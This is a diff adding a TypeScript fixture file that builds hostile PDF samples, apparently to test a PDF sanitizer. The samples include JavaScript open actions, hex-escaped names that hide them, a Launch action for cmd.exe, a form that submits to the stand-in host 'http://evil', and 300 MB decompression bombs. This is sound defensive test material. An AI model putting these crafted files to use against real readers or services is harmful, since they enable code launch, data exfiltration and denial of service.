@@ -1,0 +1,91 @@
+import { deflateSync } from 'node:zlib';
+import { type PDFDict, PDFDocument, PDFName, PDFString, StandardFonts } from 'pdf-lib';
+
+/** A harmless PDF of some pages. */
+export const aPdf = async (pages = 1): Promise<Buffer> => {
+  const document = await PDFDocument.create();
+  const font = await document.embedFont(StandardFonts.Helvetica);
+  for (let page = 1; page <= pages; page += 1)
+    document.addPage([595, 842]).drawText(`page ${page}`, { x: 50, y: 700, font });
+  return Buffer.from(await document.save());
+};
+
+const body = (objects: readonly string[]) =>
+  objects.map((text, index) => `${index + 4} 0 obj\n${text}\nendobj\n`).join('');
+
+/** A PDF written by hand: `catalog` goes into the catalogue, `objects` are numbered from 4, `page` goes into the page. */
+export const rawPdf = (parts: { catalog?: string; page?: string; objects?: string[]; trailer?: string }): Buffer => {
+  const { catalog = '', page = '', objects = [], trailer = '' } = parts;
+  return Buffer.from(
+    `%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R ${catalog} >>\nendobj\n` +
+      '2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
+      `3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] ${page} >>\nendobj\n${body(objects)}` +
+      `trailer\n<< /Root 1 0 R /Size ${objects.length + 4} ${trailer} >>\nstartxref\n0\n%%EOF\n`,
+    'latin1',
+  );
+};
+
+const SCRIPT = "app.alert('hello')";
+
+/** A script as some object of the document, packed into an object stream by pdf-lib. */
+const packedScript = async (): Promise<Buffer> => {
+  const document = await PDFDocument.create();
+  document.addPage();
+  const action = document.context.register(
+    document.context.obj({ S: PDFName.of('JavaScript'), JS: PDFString.of(SCRIPT) }) as PDFDict,
+  );
+  document.catalog.set(PDFName.of('OpenAction'), action);
+  const bytes = Buffer.from(await document.save({ useObjectStreams: true }));
+  if (bytes.includes('JavaScript')) throw new Error('the script is not packed');
+  return bytes;
+};
+
+const attached = async (): Promise<Buffer> => {
+  const document = await PDFDocument.create();
+  document.addPage();
+  await document.attach(Buffer.from('hello'), 'a.txt', { mimeType: 'text/plain' });
+  return Buffer.from(await document.save());
+};
+
+const stream = (dict: string, bytes: Buffer) =>
+  `<< ${dict} /Length ${bytes.length} >>\nstream\n${bytes.toString('latin1')}\nendstream`;
+
+/** A stream that unpacks to `megabytes`. */
+const bomb = (megabytes: number, dict = '/Filter /FlateDecode', head = '') =>
+  stream(dict, deflateSync(Buffer.concat([Buffer.from(head), Buffer.alloc(megabytes * 1024 * 1024)]), { level: 9 }));
+
+/** Documents with something in them that runs, hides a file, or eats the reader. */
+export const hostilePdfs = async (): Promise<[string, Buffer][]> => [
+  ['open action', rawPdf({ catalog: `/OpenAction << /S /JavaScript /JS (${SCRIPT}) >>` })],
+  ['escaped names', rawPdf({ catalog: `/Open#41ction << /#53 /Java#53cript /J#53 (${SCRIPT}) >>` })],
+  ['by reference', rawPdf({ catalog: '/OpenAction 4 0 R', objects: [`<< /S /JavaScript /JS (${SCRIPT}) >>`] })],
+  ['kind by reference', rawPdf({ catalog: '/OpenAction 4 0 R', objects: ['<< /S 5 0 R >>', '/JavaScript'] })],
+  [
+    'names tree',
+    rawPdf({ catalog: `/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (${SCRIPT}) >>] >> >>` }),
+  ],
+  ['script without a kind', rawPdf({ objects: [`<< /JS (${SCRIPT}) >>`] })],
+  ['script as a stream', rawPdf({ objects: ['<< /JS 5 0 R >>', stream('', Buffer.from(SCRIPT))] })],
+  ['page actions', rawPdf({ page: '/AA << /O << /S /Named /N /NextPage >> >>' })],
+  ['launch', rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /Link /A << /S /Launch /F (cmd.exe) >> >>]' })],
+  ['form that sends', rawPdf({ page: '/Annots [<< /Subtype /Widget /A << /S /SubmitForm /F (http://evil) >> >>]' })],
+  ['another file', rawPdf({ page: '/Annots [<< /Subtype /Link /A << /S /GoToR /F (other.pdf) >> >>]' })],
+  ['rich media', rawPdf({ page: '/Annots [<< /Type /Annot /Subtype /RichMedia >>]' })],
+  ['XFA', rawPdf({ catalog: '/AcroForm << /XFA [(a) (b)] >>' })],
+  ['chained action', rawPdf({ catalog: '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (a) >> >>' })],
+  ['in an array', rawPdf({ objects: [`[[[ << /S /JavaScript /JS (${SCRIPT}) >> ]]]`] })],
+  ['attachment', await attached()],
+  ['packed', await packedScript()],
+  ['encrypted', rawPdf({ trailer: '/Encrypt << /Filter /Standard /V 1 /R 2 /O (x) /U (y) /P -4 >> /ID [(a) (b)]' })],
+  ['bomb', rawPdf({ page: '/Contents 4 0 R', objects: [bomb(300)] })],
+  ['packed bomb', rawPdf({ objects: [bomb(300, '/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode', '9 0 ')] })],
+  [
+    'bomb in a bomb',
+    rawPdf({
+      objects: [stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(deflateSync(Buffer.alloc(9_000_000))))],
+    }),
+  ],
+  ['no pages', Buffer.from('%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF')],
+  ['nothing', Buffer.from('%PDF-1.7\n%%EOF')],
+  ['noise', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(200_000, 'xo <<[( 1 0 obj ')])],
+];
